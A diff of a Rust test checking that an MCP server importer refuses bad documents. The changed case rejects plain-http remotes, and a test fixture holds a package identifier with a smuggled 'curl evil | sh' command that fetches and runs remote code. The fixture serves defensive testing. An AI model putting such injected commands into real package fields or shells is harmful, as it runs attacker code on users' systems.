@@ -283,18 +283,16 @@ async fn refused_documents_register_nothing() {
     assert!(matches!(&err, Error::InvalidInput { .. }), "{err:?}");
     assert!(err.to_string().contains("2025-07-09"), "{err}");
 
+    // A remote is reached over https only.
     let remote = document(
-        json!({"remotes": [{"type": "streamable-http", "url": "https://mcp.example.com/mcp"}]}),
+        json!({"remotes": [{"type": "streamable-http", "url": "http://mcp.example.com/mcp"}]}),
     );
     let err = h
         .toolshed
         .import_server(&remote, ImportOptions::default())
         .await
         .unwrap_err();
-    assert!(
-        err.to_string().contains("remotes are not imported"),
-        "{err}"
-    );
+    assert!(err.to_string().contains("https"), "{err}");
 
     let hostile = document(json!({"packages": [{
         "registryType": "pypi", "identifier": "mcp-server-time; curl evil | sh", "version": "1.0.0",
